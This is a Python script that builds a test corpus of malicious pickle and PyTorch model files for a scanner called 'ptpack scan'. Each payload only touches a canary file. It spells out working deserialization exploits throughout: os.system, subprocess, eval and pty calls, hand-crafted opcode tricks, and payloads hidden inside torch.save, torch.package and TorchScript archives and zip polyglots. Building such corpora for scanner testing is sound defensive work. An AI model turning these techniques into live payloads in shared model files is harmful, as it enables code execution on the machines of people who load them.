#!/usr/bin/python3
"""Writes the malicious corpus for `ptpack scan` with real Python pickling (and stock torch).

Usage: /usr/bin/python3 corpus.py OUTDIR CANARY_DIR   (torch 1.13 imports under /usr/bin/python3)

Every payload, if it ever ran, would leave a trace: shell commands run `touch CANARY_DIR/<name>`
(and the test puts a fake `touch` first in PATH that records a started process), Python code
payloads open CANARY_DIR/<name> for writing. Writes OUTDIR/manifest.json:
{"malicious": [{"file", "why"}]}. Nothing here is ever unpickled except by the test's control
case, which loads one payload on purpose to prove the canary mechanism works.
"""
import io
import json
import os
import pickle
import struct
import sys
import zipfile

import torch
import torch.package

OUT, CANARY = sys.argv[1], sys.argv[2]
os.makedirs(OUT, exist_ok=True)
CASES = []


def add(name, data, why):
    path = os.path.join(OUT, name)
    with open(path, "wb") as f:
        f.write(data)
    CASES.append({"file": name, "why": why})


def shell(name):
    return f"touch {CANARY}/{name}"


def pycode(name):
    return f"open({os.path.join(CANARY, name)!r}, 'w').close()"


class Reduce:
    """Pickles as func(*args): the classic __reduce__ payload."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


# --- __reduce__ payloads with the real pickler, every protocol -------------------------------
import builtins  # noqa: E402
import importlib  # noqa: E402
import pty  # noqa: E402
import runpy  # noqa: E402
import socket  # noqa: E402
import subprocess  # noqa: E402
import webbrowser  # noqa: E402

for proto in range(0, 6):
    add(f"os_system_p{proto}.pkl", pickle.dumps(Reduce(os.system, shell(f"os_system_p{proto}")), protocol=proto),
        f"os.system via REDUCE, protocol {proto}")
add("eval.pkl", pickle.dumps(Reduce(builtins.eval, pycode("eval")), protocol=2), "builtins.eval")
add("exec.pkl", pickle.dumps(Reduce(builtins.exec, pycode("exec")), protocol=4), "builtins.exec")
add("subprocess_popen.pkl", pickle.dumps(Reduce(subprocess.Popen, ["sh", "-c", shell("popen")]), protocol=3),
    "subprocess.Popen")
add("subprocess_call.pkl", pickle.dumps(Reduce(subprocess.call, shell("call"), ), protocol=5), "subprocess.call")
add("runpy.pkl", pickle.dumps(Reduce(runpy.run_path, "/nonexistent/x.py"), protocol=2), "runpy.run_path")
add("pty.pkl", pickle.dumps(Reduce(pty.spawn, ["sh", "-c", shell("pty")]), protocol=2), "pty.spawn")
add("webbrowser.pkl", pickle.dumps(Reduce(webbrowser.open, "http://127.0.0.1:9/x"), protocol=2), "webbrowser.open")
add("socket.pkl", pickle.dumps(Reduce(socket.create_connection, ("127.0.0.1", 9)), protocol=4),
    "socket.create_connection")
add("importlib.pkl", pickle.dumps(Reduce(importlib.import_module, "os"), protocol=2), "importlib.import_module")

# --- hand-written opcode streams ---------------------------------------------------------------
def p0(s):
    return s.encode("latin-1")


# builtins.getattr(builtins.__import__('os'), 'system')('touch ...'): the callable is a call result.
add("getattr_chain_p0.pkl",
    p0("cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(V" + shell("getattr_chain") + "\ntR."),
    "getattr(__import__('os'), 'system')(...)")
# importlib.import_module('os') then getattr, protocol 2.
add("importlib_getattr.pkl",
    p0("\x80\x02cbuiltins\ngetattr\ncimportlib\nimport_module\nX\x02\x00\x00\x00os\x85RX\x06\x00\x00\x00system\x86R")
    + b"X" + struct.pack("<I", len(shell("importlib_getattr"))) + shell("importlib_getattr").encode() + b"\x85R.",
    "importlib.import_module + getattr")


def binunicode(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def short_unicode(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


cmd = shell("memo_stack_global")
# STACK_GLOBAL whose operands come from the memo (BINPUT/BINGET), protocol 4.
add("memo_stack_global_p4.pkl",
    b"\x80\x04\x95" + struct.pack("<Q", 0) + short_unicode("posix") + b"q\x00" + short_unicode("system") + b"q\x01"
    + b"0" + b"0" + b"h\x00h\x01\x93" + short_unicode(cmd) + b"\x85R.",
    "STACK_GLOBAL operands fetched from the memo")
# Same with MEMOIZE and a global stored in the memo, fetched again and called later (protocol 5).
add("memoize_global_p5.pkl",
    b"\x80\x05" + short_unicode("os") + b"\x94" + short_unicode("system") + b"\x94\x93\x94" + b"0"
    + b"N0" + b"h\x02" + short_unicode(shell("memoize_global")) + b"\x85R.",
    "a global memoized with MEMOIZE and called through BINGET")
# DUP of the callable.
add("dup_call.pkl",
    b"\x80\x02cos\nsystem\n2" + binunicode(shell("dup_call")) + b"\x85R0" + binunicode(shell("dup_call2")) + b"\x85R.",
    "DUP'ed callable called twice")
# STACK_GLOBAL with a non-string operand (computed module name).
add("stack_global_unresolved.pkl",
    b"\x80\x04cbuiltins\nstr\n" + short_unicode("os") + b"\x85R" + short_unicode("system") + b"\x93"
    + short_unicode(shell("sg_unresolved")) + b"\x85R.",
    "STACK_GLOBAL whose module is the result of a call")
# INST and OBJ (protocol 0/1 calls), NEWOBJ_EX.
add("inst_p0.pkl", p0("(S'" + shell("inst") + "'\nios\nsystem\n."), "INST os.system")
add("obj_p1.pkl", b"(cos\nsystem\n" + binunicode(shell("obj")) + b"o.", "OBJ os.system")
add("newobj_ex.pkl", b"\x80\x04csubprocess\nPopen\n" + short_unicode("sh") + short_unicode("-c")
    + short_unicode(shell("newobj_ex")) + b"\x87\x85}\x92.", "NEWOBJ_EX subprocess.Popen")
# EXT1: the copyreg extension registry maps codes to globals the file does not name.
add("ext1.pkl", b"\x80\x02\x82\x01" + binunicode(shell("ext")) + b"\x85R.", "EXT1 code")
# BUILD on a class object (sets attributes of a module-level object).
add("build_on_global.pkl", b"\x80\x02ccollections\nOrderedDict\n}X\x03\x00\x00\x00abcK\x01sb.",
    "BUILD applied to a global")
# Code objects: marshal.loads + types.FunctionType.
import marshal  # noqa: E402
import types  # noqa: E402
code = compile(pycode("code_object"), "<x>", "exec")
add("code_object.pkl",
    b"\x80\x03ctypes\nFunctionType\ncmarshal\nloads\nC" + bytes([0]) + b"\x85R}\x86R)R.",
    "types.FunctionType(marshal.loads(...), {})()")
mdata = marshal.dumps(code)
add("code_object_real.pkl",
    b"\x80\x03ctypes\nFunctionType\ncmarshal\nloads\nB" + struct.pack("<I", len(mdata)) + mdata + b"\x85R}\x86R)R.",
    "a real marshalled code object turned into a function and called")

# --- structural tricks ---------------------------------------------------------------------------
benign = pickle.dumps({"a": 1}, protocol=2)
add("after_stop.pkl", benign + pickle.dumps(Reduce(os.system, shell("after_stop")), protocol=2),
    "payload after the first pickle's STOP")
add("after_stop_partial.pkl", benign + b"cos\nsystem\n(S'" + shell("after_stop_partial").encode() + b"'\ntR",
    "payload after STOP without a STOP of its own (runs before the loader fails)")
inner = pickle.dumps(Reduce(os.system, shell("nested_bytes")), protocol=4)
add("nested_bytes.pkl", pickle.dumps({"blob": inner}, protocol=4), "a pickle stored as a bytes value")
add("nested_bytes_p2.pkl", pickle.dumps({"blob": inner}, protocol=2),
    "a pickle stored as bytes under protocol 2 (_codecs.encode latin-1 text)")
# Billion laughs: 9 levels of lists holding 10 references to the level below.
laughs = b"\x80\x02]q\x00"
for level in range(1, 10):
    laughs += b"0(" + (b"h" + bytes([level - 1])) * 10 + b"l" + b"q" + bytes([level])
laughs += b"."
add("memo_amplification.pkl", laughs, "memo amplification (10^9 nodes from a few hundred bytes)")

# --- payloads inside torch formats -------------------------------------------------------------
buf = io.BytesIO()
torch.save({"w": torch.zeros(2), "x": Reduce(os.system, shell("torch_save_zip"))}, buf)
add("torch_save_zip.pt", buf.getvalue(), "payload in a torch.save zip")
buf = io.BytesIO()
torch.save({"w": torch.zeros(2), "x": Reduce(os.system, shell("torch_save_legacy"))}, buf,
           _use_new_zipfile_serialization=False)
add("torch_save_legacy.pt", buf.getvalue(), "payload in a legacy torch.save stream")
buf = io.BytesIO()
torch.save({"w": torch.zeros(2), "x": Reduce(os.system, shell("torch_save_p4"))}, buf, pickle_protocol=4)
add("torch_save_zip_p4.pt", buf.getvalue(), "payload in a protocol-4 torch.save zip")


def rewrite_zip(data, replace, extra=()):
    """Copies a zip replacing records by name (Python's zipfile: no alignment, that is fine)."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for info in src.infolist():
            z.writestr(info.filename, replace.get(info.filename.split("/", 1)[1], src.read(info)))
        for name, blob in extra:
            z.writestr(name, blob)
    return out.getvalue()


payload = pickle.dumps(Reduce(os.system, shell("package")), protocol=3)
pbuf = io.BytesIO()
with torch.package.PackageExporter(pbuf) as e:
    e.save_source_string("mymod", "X = 1\n")
    e.save_pickle("res", "sd.pkl", torch.nn.Linear(2, 2).state_dict())
add("package_pkl.pt", rewrite_zip(pbuf.getvalue(), {"res/sd.pkl": payload}), "payload in a torch.package .pkl")
add("package_extra_pkl.pt", rewrite_zip(pbuf.getvalue(), {}, [("package/res/evil.pkl", payload)]),
    "an extra payload .pkl in a torch.package")
# A package whose own module name collides with an allowed-looking global: `torch` policy only
# accepts modules the package provides; os is not one of them.
pkg_os = pickle.dumps(Reduce(os.system, shell("package_ts")), protocol=3)

ts = torch.jit.script(torch.nn.Linear(2, 2))
tbuf = io.BytesIO()
torch.jit.save(ts, tbuf)
tdata = tbuf.getvalue()
add("torchscript_constants.pt", rewrite_zip(tdata, {"constants.pkl": pickle.dumps(Reduce(os.system, shell("ts_const")), protocol=2)}),
    "payload in a TorchScript constants.pkl")
add("torchscript_data.pt", rewrite_zip(tdata, {"data.pkl": pickle.dumps(Reduce(os.system, shell("ts_data")), protocol=2)}),
    "payload in a TorchScript data.pkl")

# A zip inside a zip: a benign torch.save carrying a malicious torch.save as an extra record.
benign_zip = io.BytesIO()
torch.save({"w": torch.ones(3)}, benign_zip)
add("zip_in_zip.pt", rewrite_zip(benign_zip.getvalue(), {}, [("archive/extra/inner.pt", open(os.path.join(OUT, "torch_save_zip.pt"), "rb").read())]),
    "a torch.save zip inside a torch.save zip")
# Duplicate entry names: the strict reader refuses, zipfile keeps both (the last one wins there).
dup = io.BytesIO()
import warnings  # noqa: E402
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    with zipfile.ZipFile(dup, "w") as z:
        z.writestr("archive/data.pkl", benign)
        z.writestr("archive/data.pkl", pickle.dumps(Reduce(os.system, shell("dup")), protocol=2))
        z.writestr("archive/version", "3\n")
add("zip_duplicate.pt", dup.getvalue(), "duplicate data.pkl entries (benign first, payload second)")
# A polyglot: a benign bare pickle followed by a zip holding a payload.
add("polyglot.pkl", benign + open(os.path.join(OUT, "torch_save_zip.pt"), "rb").read(),
    "a pickle that is also a zip (zip readers search from the end)")
# A zip whose central directory is damaged: a lenient reader walking local headers still loads it.
damaged = bytearray(open(os.path.join(OUT, "torch_save_zip.pt"), "rb").read())
eocd = damaged.rfind(b"PK\x05\x06")
damaged[eocd:eocd + 4] = b"XX\x05\x06"
add("zip_no_end_record.pt", bytes(damaged), "a torch.save zip without a valid end record")

json.dump({"malicious": CASES}, open(os.path.join(OUT, "manifest.json"), "w"), indent=1)
print(f"{len(CASES)} malicious files in {OUT}")
